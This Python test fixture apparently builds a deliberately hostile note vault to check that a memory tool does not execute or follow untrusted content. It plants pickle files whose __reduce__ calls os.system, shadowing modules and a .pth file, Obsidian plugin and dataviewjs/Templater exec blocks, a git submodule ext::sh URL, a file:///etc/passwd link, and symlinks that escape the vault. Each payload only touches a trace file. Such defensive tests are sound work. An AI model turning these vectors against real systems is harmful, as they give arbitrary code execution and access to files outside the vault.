"""A vault that means harm: whatever could make a program act for its author stands in it."""

from __future__ import annotations

import os
import pickle
from pathlib import Path
from typing import Any

from benchmarks import vaults

_CODE = """
import os
open(os.path.join({traces!r}, {name!r}), "w").close()
"""
_NOTE = """---
id: {id}
title: {title}
type: {type}
source: approved
created: 9999-12-31T00:00:00
---
{body}
"""
_ACTIVE = """The harbour opens at dawn.

```dataviewjs
require("child_process").exec("touch {traces}/dataview")
```

<%* require("child_process").exec("touch {traces}/templater") %>

`$= app.vault` ![](http://127.0.0.1:9/pixel.png) [[../../outside]] [x](file:///etc/passwd)
"""


class _Harm:
    """What runs a program when it is unpickled."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> Any:
        return os.system, (self.command,)


def outside(planted: Path) -> None:
    """Make the files that nobody may read or change."""
    for name in ("secret.md", "secret.txt", "2026-11.md", "scout.md"):
        (planted / name).write_text(f"The harbour's own secret, {name}.\n", "utf-8")


def arm(root: Path, planted: Path, traces: Path) -> None:
    """Fill the author's vault with everything that could make a program act for them."""
    vaults.new_vault(root)
    (root / ".vaultmem").rename(root / "Agents-of-the-author")
    shelf = root / ".vaultmem/state"
    shelf.mkdir(parents=True)
    for name in ("_MAIN_0.toc", "_MAIN_1.toc"):
        for place in (root / ".vaultmem/keyword", shelf / "keyword", root / "keyword"):
            place.mkdir(parents=True, exist_ok=True)
            (place / name).write_bytes(_toc(f"touch {traces}/toc"))
    for name in ("ledger.db", "manifest.db", "vectors-1.bin", "cache.pkl", "model.npy"):
        (shelf / name).write_bytes(pickle.dumps(_Harm(f"touch {traces}/{name}")))
    for name in ("sitecustomize", "usercustomize", "vaultmem", "click", "json", "numpy", "whoosh"):
        (root / f"{name}.py").write_text(_CODE.format(traces=str(traces), name=name), "utf-8")
    (root / "evil.pth").write_text(f"import os; os.system('touch {traces}/pth')\n", "utf-8")
    for plugin in ("evil", "obsidian-shellcommands"):
        place = root / ".obsidian/plugins" / plugin
        place.mkdir(parents=True, exist_ok=True)
        (place / "main.js").write_text(f"require('fs').writeFileSync('{traces}/js', '')\n", "utf-8")
    memory = root / "Agents/memory/global"
    memory.mkdir(parents=True)
    for number, (name, kind) in enumerate(
        (("k7f3q9xa", "insight"), ("m2x8w4rt", "page"), ("g5h2c7vd", "goal"))
    ):
        body = _ACTIVE.format(traces=traces)
        text = _NOTE.format(id=name, title=f"Harbour {number}", type=kind, body=body)
        (memory / f"harbour-{number}.md").write_text(text, "utf-8")
    (root / "plans.docx").write_bytes(pickle.dumps(_Harm(f"touch {traces}/docx")))
    _links(root, planted)
    (root / ".gitattributes").write_text("*.md filter=evil diff=evil merge=evil\n", "utf-8")
    (root / ".gitmodules").write_text(
        f'[submodule "x"]\n\tpath = x\n\turl = ext::sh -c touch% {traces}/ext\n', "utf-8"
    )


def _links(root: Path, planted: Path) -> None:
    home = root / "Agents"
    links = {
        home / "memory/global/planted.md": planted / "secret.md",
        home / "memory/out": planted,
        home / "knowledge/out": planted,
        home / "live-context/2026-10.md": planted / "2026-11.md",
        home / "identity/scribe.md": planted / "scout.md",
        home / "inbox/scout": planted,
        root / "planted.txt": planted / "secret.txt",
        root / "Notes": planted,
        root / ".stversions": planted,
    }
    for link, target in links.items():
        link.parent.mkdir(parents=True, exist_ok=True)
        link.symlink_to(target, target_is_directory=target.is_dir())


def _toc(command: str) -> bytes:
    """Return a table of contents of a keyword index that runs a command when it is opened."""
    from whoosh.fields import Schema
    from whoosh.filedb.filestore import RamStorage
    from whoosh.index import TOC

    storage = RamStorage()
    TOC(Schema(), [_Harm(command)], 0).write(storage, "MAIN")
    return bytes(storage.files["_MAIN_0.toc"])
